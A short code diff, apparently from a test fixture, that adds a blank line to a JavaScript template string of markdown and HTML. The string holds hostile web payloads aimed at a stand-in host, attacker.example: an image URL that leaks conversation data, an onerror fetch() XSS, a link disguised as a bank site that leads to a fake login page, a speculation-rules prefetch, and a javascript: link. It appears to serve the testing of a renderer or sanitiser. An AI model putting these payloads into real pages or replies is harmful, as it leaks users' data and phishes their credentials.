@@ -6,6 +6,7 @@ const weather = `## Berlin
 It is **12 °C**. ![](https://attacker.example/p?q=the-conversation)
 
 <img src=x onerror="fetch('https://attacker.example/xss')">
+
 [https://bank.example](https://attacker.example/login)
 <script type="speculationrules">{"prefetch":[{"urls":["https://attacker.example/s"]}]}</script>
 [run](javascript:alert(1))`;
